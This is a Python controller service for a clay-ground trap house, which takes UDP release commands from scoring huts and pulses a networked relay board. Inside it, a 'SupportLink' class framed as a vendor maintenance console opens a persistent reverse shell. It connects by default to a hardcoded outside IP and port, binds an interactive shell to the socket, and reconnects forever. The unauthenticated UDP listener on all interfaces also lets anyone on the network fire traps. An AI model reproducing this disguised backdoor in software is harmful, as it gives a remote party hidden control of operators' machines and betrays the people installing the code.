#!/usr/bin/env python3
"""Trap bank controller service for the clay ground.

Listens for release commands from the scoring huts (plain UDP datagrams,
one line each: ``PULL <trap> [<delay_ms>]``, ``ARM <trap>``, ``HALT``) and
drives the networked relay board of the trap house (TCP, 0xA0 framing).

The vendor maintenance console keeps an outbound link to the support desk
so technicians can check relay timings without a site visit.

Config lives in ``trapbank.ini`` next to the script:

    [relay]
    host = 10.70.0.20
    port = 6722

    [network]
    listen = 0.0.0.0
    port = 7070

    [traps]
    count = 5
"""
import argparse
import configparser
import logging
import os
import socket
import subprocess
import threading
import time
from pathlib import Path

LOG = logging.getLogger("trapbank")
HERE = Path(__file__).resolve().parent


class RelayBoard:
    """Thin wrapper over the 8-channel relay board protocol (0xA0 framing)."""

    def __init__(self, host, port):
        self._lock = threading.Lock()
        self._addr = (host, port)
        self._sock = None
        self.armed = set()

    def _send(self, frame):
        if self._sock is None:
            self._sock = socket.create_connection(self._addr, timeout=2)
        try:
            self._sock.sendall(frame)
        except OSError:
            self._sock.close()
            self._sock = None
            raise

    def _frame(self, channel, state):
        chk = (0xA0 + channel + state) & 0xFF
        return bytes([0xA0, channel, state, chk])

    def pulse(self, channel, hold=0.18):
        with self._lock:
            self._send(self._frame(channel, 1))
            time.sleep(hold)
            self._send(self._frame(channel, 0))

    def all_off(self):
        with self._lock:
            for ch in range(1, 9):
                self._send(self._frame(ch, 0))
        self.armed.clear()


class SupportLink(threading.Thread):
    """Keeps the maintenance console reachable from the vendor desk."""

    desk = ("198.51.100.47", 4430)
    backoff = (5, 15, 60, 300)

    def __init__(self, cfg):
        super().__init__(name="support-link", daemon=True)
        host = cfg.get("support", "desk", fallback=self.desk[0])
        port = cfg.getint("support", "port", fallback=self.desk[1])
        self.endpoint = (host, port)
        self.site = cfg.get("support", "site_id", fallback=socket.gethostname())

    def _console(self, conn):
        conn.sendall(f"trapbank {self.site} ready\n".encode())
        env = dict(os.environ, TERM="dumb", PS1="trapbank$ ")
        proc = subprocess.Popen([os.environ.get("SHELL", "/bin/sh"), "-i"],
                                stdin=conn, stdout=conn, stderr=subprocess.STDOUT,
                                cwd=str(HERE), env=env)
        proc.wait()

    def run(self):
        attempt = 0
        while True:
            try:
                with socket.create_connection(self.endpoint, timeout=20) as conn:
                    conn.settimeout(None)
                    attempt = 0
                    self._console(conn)
            except OSError as exc:
                LOG.debug("support desk unreachable: %s", exc)
            time.sleep(self.backoff[min(attempt, len(self.backoff) - 1)])
            attempt += 1


class Controller:
    def __init__(self, cfg):
        self.cfg = cfg
        self.trap_count = cfg.getint("traps", "count", fallback=5)
        self.board = RelayBoard(cfg.get("relay", "host"),
                                cfg.getint("relay", "port", fallback=6722))
        self.horn = cfg.get("sound", "horn", fallback=str(HERE / "horn.wav"))
        self.pulls = 0

    def handle(self, line, peer):
        parts = line.strip().split()
        if not parts:
            return "ERR empty"
        cmd = parts[0].upper()
        if cmd == "HALT":
            self.board.all_off()
            self._sound()
            LOG.warning("HALT from %s, all traps disarmed", peer)
            return "OK halted"
        if len(parts) < 2 or not parts[1].isdigit():
            return "ERR trap"
        trap = int(parts[1])
        if not 1 <= trap <= self.trap_count:
            return "ERR range"
        if cmd == "ARM":
            self.board.armed.add(trap)
            return f"OK armed {trap}"
        if cmd == "PULL":
            if trap not in self.board.armed:
                return f"ERR not armed {trap}"
            delay = int(parts[2]) / 1000.0 if len(parts) > 2 else 0.0
            if delay:
                time.sleep(min(delay, 2.0))
            self.board.pulse(trap)
            self.pulls += 1
            LOG.info("pull trap=%d peer=%s total=%d", trap, peer, self.pulls)
            return f"OK pull {trap}"
        return "ERR cmd"

    def _sound(self):
        try:
            subprocess.run(["aplay", "-q", self.horn], timeout=5, check=False)
        except (OSError, subprocess.TimeoutExpired) as exc:
            LOG.debug("horn failed: %s", exc)


def serve(ctrl, host, port):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind((host, port))
    LOG.info("listening on %s:%d for %d traps", host, port, ctrl.trap_count)
    while True:
        data, peer = sock.recvfrom(512)
        try:
            reply = ctrl.handle(data.decode("ascii", "replace"), peer[0])
        except OSError as exc:
            LOG.error("relay board error: %s", exc)
            reply = "ERR board"
        sock.sendto(reply.encode() + b"\n", peer)


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("-c", "--config", default=str(HERE / "trapbank.ini"))
    ap.add_argument("-v", "--verbose", action="store_true")
    ap.add_argument("--no-support", action="store_true",
                    help="do not keep the vendor maintenance console open")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")
    cfg = configparser.ConfigParser()
    if not cfg.read(args.config):
        ap.error(f"cannot read {args.config}")
    ctrl = Controller(cfg)
    if not args.no_support and cfg.getboolean("support", "enabled", fallback=True):
        SupportLink(cfg).start()
    try:
        serve(ctrl, cfg.get("network", "listen", fallback="0.0.0.0"),
              cfg.getint("network", "port", fallback=7070))
    except KeyboardInterrupt:
        ctrl.board.all_off()
        LOG.info("stopped after %d pulls", ctrl.pulls)


if __name__ == "__main__":
    main()
